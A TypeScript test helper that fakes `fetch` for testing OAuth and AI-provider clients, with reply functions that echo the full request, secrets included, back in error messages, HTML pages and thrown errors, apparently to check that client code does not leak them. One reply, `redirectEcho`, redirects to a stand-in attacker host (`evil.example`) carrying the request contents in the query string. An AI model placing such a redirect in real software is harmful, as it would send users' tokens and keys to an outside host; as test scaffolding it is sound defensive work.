/** What a fetch double does with everything a request carried (URL, headers, body). */
export type Reply = (sent: string, url: URL) => Response;

/**
 * A `fetch` that never touches the network: it hands the whole request, as one string, to
 * `reply`, and keeps each request body in `bodies` so a test can learn what was sent (the
 * PKCE verifier, say).
 */
export function fetchDouble(reply: Reply, bodies: string[] = []): typeof fetch {
  return (async (input: string | URL | Request, init?: RequestInit) => {
    const url = new URL(input instanceof Request ? input.url : String(input));
    const headers = [...new Headers(init?.headers).values()].join(' ');
    const body = typeof init?.body === 'string' ? init.body : '';
    bodies.push(body);
    return reply(`${url.href} ${headers} ${body}`, url);
  }) as typeof fetch;
}

function json(status: number, body: object): Response {
  return new Response(JSON.stringify(body), {
    status,
    headers: { 'content-type': 'application/json' },
  });
}

/** An OAuth error (RFC 6749 section 5.2) whose description quotes the request. */
export const oauthEcho =
  (status: number): Reply =>
  (sent) =>
    json(status, {
      error: status >= 500 ? 'temporarily_unavailable' : 'invalid_grant',
      error_description: `you sent ${sent}`,
    });

/** A provider error, as OpenAI and Anthropic shape it, quoting the request. */
export const providerEcho =
  (status: number): Reply =>
  (sent) =>
    json(status, { error: { message: `Incorrect API key provided: ${sent}` } });

/** A 200 HTML page quoting the request, where JSON was expected. */
export const htmlEcho: Reply = (sent) =>
  new Response(`<html><p>${sent}</p></html>`, { headers: { 'content-type': 'text/html' } });

/** A redirect that would carry the request on to another host. */
export const redirectEcho: Reply = (sent) =>
  new Response(null, {
    status: 302,
    headers: { location: `https://evil.example/?took=${encodeURIComponent(sent)}` },
  });

/** A network failure whose message and cause quote the request, as some proxies' do. */
export const throwEcho: Reply = (sent) => {
  throw new TypeError(`fetch failed for ${sent}`, {
    cause: new Error(`socket hang up after ${sent}`),
  });
};

/** Token endpoint requests get `token`, everything else gets `provider`. */
export const routed =
  (token: Reply, provider: Reply): Reply =>
  (sent, url) =>
    url.pathname.endsWith('/oauth/token') ? token(sent, url) : provider(sent, url);
